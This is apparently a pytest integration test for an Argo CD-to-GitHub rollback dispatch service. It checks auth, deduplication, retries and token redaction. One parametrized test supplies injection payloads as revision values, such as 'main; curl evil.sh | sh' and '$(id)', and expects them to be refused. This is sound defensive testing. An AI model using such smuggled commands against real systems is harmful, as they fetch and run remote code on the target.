"""Argo CD rollback dispatch through the real parts: an Argo CD notification to Envoy + filter, attested to
the controller, which calls a local server speaking GitHub's repository_dispatch endpoint."""

from __future__ import annotations

import base64
import http.client
import json
import time

import pytest

from gitops import KEY, FakeGitHub, controller_env
from harness import Controller, Envoy, envoy_bootstrap, free_port

ARGO_TOKEN = "argocd-notifications-token-0123456789"
BASIC = "argocd:basic-password-0123456789"
GITHUB_TOKEN = "ghp_dispatchTokenNeverLogged0123456789"
FAILED = "3f786850e387550fdab836ed7e6dc881de23001b"
HEALTHY = "aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d"


@pytest.fixture(scope="module")
def github():
    fake = FakeGitHub()
    yield fake
    fake.server.shutdown()


@pytest.fixture(scope="module")
def edge(cp, github, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("dispatch")
    (workdir / "github-token").write_text(GITHUB_TOKEN + "\n")
    args = ["--github-api-url", f"http://127.0.0.1:{github.port}", "--github-token-file", str(workdir / "github-token"),
            "--deadline-ms", "1500"]
    with Controller(controller_env(cp, workdir), args) as controller:
        config = {"receivers": [
            {"name": "guestbook", "namespace": "argocd", "type": "bearer", "path": "/hook/argocd-degraded",
             "action": "dispatch", "dispatch": {"repository": "example/gitops"}, "secrets": [{"env": "ARGO_TOKEN"}]},
            {"name": "shop", "namespace": "argocd", "type": "basic", "path": "/hook/argocd-basic",
             "action": "dispatch", "dispatch": {"repository": "example/shop", "eventType": "rollback"},
             "secrets": [{"env": "ARGO_BASIC"}]},
        ]}
        env = {"ARGO_TOKEN": ARGO_TOKEN, "ARGO_BASIC": BASIC, "HOOKGATE_ATTESTATION_KEY": KEY}
        bootstrap = envoy_bootstrap(listen_port=free_port(), admin_port=free_port(), upstream_port=controller.port,
                                    filter_config=config, host_env_keys=sorted(env))
        with Envoy(bootstrap, env) as envoy:
            envoy.controller = controller
            yield envoy


def notify(port: int, failed: str = FAILED, healthy: str = HEALTHY, auth: str | None = f"Bearer {ARGO_TOKEN}",
           path: str = "/hook/argocd-degraded", application: str | None = None) -> tuple[int, dict]:
    """What Argo CD's webhook service sends with the documented template."""
    payload = {"failed_revision": failed, "healthy_revision": healthy}
    if application:
        payload["application"] = application
    body = json.dumps({"event_type": "argo-degraded", "client_payload": payload}).encode()
    headers = {"Content-Type": "application/json"}
    if auth:
        headers["Authorization"] = auth
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.request("POST", path, body=body, headers=headers)
    response = conn.getresponse()
    result = response.status, json.loads(response.read() or b"{}")
    conn.close()
    return result


def test_degraded_notification_dispatches_once_with_the_healthy_revision(edge, github):
    github.reset()
    status, reply = notify(edge.port)
    assert (status, reply["dispatch"]) == (200, "sent"), reply
    assert len(github.requests) == 1
    sent = github.requests[0]
    assert sent["path"] == "/repos/example/gitops/dispatches"
    assert sent["headers"]["authorization"] == f"Bearer {GITHUB_TOKEN}"
    assert sent["headers"]["accept"] == "application/vnd.github+json"
    assert sent["headers"]["x-github-api-version"] == "2022-11-28"
    assert sent["body"] == {"event_type": "argo-degraded", "client_payload": {
        "application": "guestbook", "failed_revision": FAILED, "healthy_revision": HEALTHY}}

    # Argo CD retries: the same application and failed revision dispatches once. A retry comes at least
    # retryWaitMin (1 s by default) later; the same notification again within the same second is attested
    # with the same signature, which the controller refuses as a replay.
    time.sleep(1)
    status, reply = notify(edge.port)
    assert (status, reply["dispatch"]) == (200, "deduplicated")
    assert len(github.requests) == 1
    # Another failed revision is another rollback.
    status, reply = notify(edge.port, failed="b" * 40)
    assert (status, reply["dispatch"]) == (200, "sent")
    assert len(github.requests) == 2


def test_basic_auth_notification_and_configured_event_type(edge, github):
    github.reset()
    auth = "Basic " + base64.b64encode(BASIC.encode()).decode()
    status, reply = notify(edge.port, failed="c" * 40, auth=auth, path="/hook/argocd-basic", application="cart")
    assert status == 200, reply
    assert github.requests[0]["path"] == "/repos/example/shop/dispatches"
    assert github.requests[0]["body"]["event_type"] == "rollback"
    assert github.requests[0]["body"]["client_payload"]["application"] == "cart"


@pytest.mark.parametrize("auth,status", [(None, 401), (f"Bearer {ARGO_TOKEN}x", 401), ("Bearer", 401),
                                         ("Basic " + base64.b64encode(b"argocd:wrong").decode(), 401)])
def test_unauthenticated_notifications_never_reach_the_controller(edge, github, auth, status):
    github.reset()
    got, reply = notify(edge.port, failed="d" * 40, auth=auth)
    assert got == status, reply
    assert github.requests == []
    assert "d" * 40 not in edge.controller.log(), "nothing of the refused notification reached the controller"


@pytest.mark.parametrize("failed,healthy", [("main; curl evil.sh | sh", HEALTHY), (FAILED, "$(id)"), (FAILED, ""),
                                            ("-rf", HEALTHY)])
def test_revisions_that_are_not_git_ids_or_refs_are_refused_before_anything_is_sent(edge, github, failed, healthy):
    github.reset()
    status, reply = notify(edge.port, failed=failed, healthy=healthy)
    assert (status, reply) == (400, {"error": "malformed payload"})
    assert github.requests == []


@pytest.mark.parametrize("github_status", [401, 403, 404, 422])
def test_github_refusals_are_reported_as_bad_gateway(edge, github, github_status):
    github.reset([github_status])
    status, reply = notify(edge.port, failed=f"{github_status:x}" * 10)
    assert status == 502, reply
    assert reply["error"] == f"GitHub answered {github_status}: GitHub says {github_status}"
    assert len(github.requests) == 1, "a refusal is not retried"


def test_github_server_errors_are_retried_then_reported_unavailable(edge, github):
    github.reset([500, 502, 204])
    status, reply = notify(edge.port, failed="e" * 40)
    assert (status, reply["dispatch"]) == (200, "sent")
    assert len(github.requests) == 3

    github.reset([500] * 100)
    started = time.monotonic()
    status, reply = notify(edge.port, failed="f" * 40)
    assert status == 503, reply
    assert reply["error"] == "GitHub answered 500: GitHub says 500"
    assert 1 < len(github.requests) < 100
    assert time.monotonic() - started < 10
    # Not sent, so a redelivery tries again rather than being deduplicated.
    github.reset()
    status, reply = notify(edge.port, failed="f" * 40)
    assert (status, reply["dispatch"]) == (200, "sent")


def test_the_github_token_is_never_logged(edge, github):
    assert GITHUB_TOKEN not in edge.controller.log()
    assert GITHUB_TOKEN not in edge.log()
